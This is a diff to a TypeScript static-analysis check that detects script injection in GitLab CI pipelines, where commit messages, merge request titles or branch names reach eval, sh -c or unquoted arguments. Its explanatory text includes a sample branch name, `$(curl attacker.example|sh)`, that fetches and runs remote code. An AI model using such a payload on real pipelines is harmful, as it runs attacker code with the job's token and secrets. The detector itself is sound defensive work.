@@ -29,6 +29,7 @@ export const gitlabScriptInjection = gitlabCheck({
   name: "gitlab-script-injection",
   title: "Untrusted text in job scripts",
   severity: "high",
+  scripts: true,
   documentation: {
     what: "Checks scripts of a GitLab pipeline for predefined variables that whoever pushes a commit or opens a merge request decides (`CI_COMMIT_MESSAGE`, `CI_MERGE_REQUEST_TITLE`, `CI_COMMIT_REF_NAME` and their like): as part of a text that `eval`, `sh -c`, `ssh` or an interpreter runs, and outside of quotes. Not reported: double-quoted arguments of other commands, and plain assignments. Severity: high where the text is run, low where it may become several words.",
     why: "A branch named `$(curl attacker.example|sh)` is run where a shell reads it a second time, with the token and secrets of the job. Outside of quotes its words become options of the command.",
@@ -39,6 +40,8 @@ export const gitlabScriptInjection = gitlabCheck({
     ],
   },
   *detect(pipeline) {
+    /** What `sh -c` is given is taken apart as well. */
+    const reported = new Set<string>();
     for (const { command, line, job } of commandsOf(pipeline)) {
       const again = readsAgain(command);
       const words = [...command.arguments, ...command.redirections.map(({ target }) => target)];
@@ -49,12 +52,16 @@ export const gitlabScriptInjection = gitlabCheck({
           if (kind !== "parameter" || !isFreeText(name)) continue;
           const isRun = again?.(word) === true;
           if (!isRun && (quoted === true || line.commands.some(isTest(command)))) continue;
+          const place = placeIn(line, range);
+          const key = `${place.path}:${place.start}`;
+          if (reported.has(key)) continue;
+          reported.add(key);
           yield {
             subject: `$${name} ${isRun ? `run by ${command.program ?? "a shell"}` : "outside of quotes"}`,
             title: isRun
               ? `$${name} is part of a text that ${command.program ?? "a shell"} runs`
               : `$${name} stands outside of quotes`,
-            place: placeIn(line, range),
+            place,
             job,
             severity: isRun ? "high" : "low",
             fix: isRun ? `hand $${name} over as an argument or in the environment` : `write "$${name}"`,
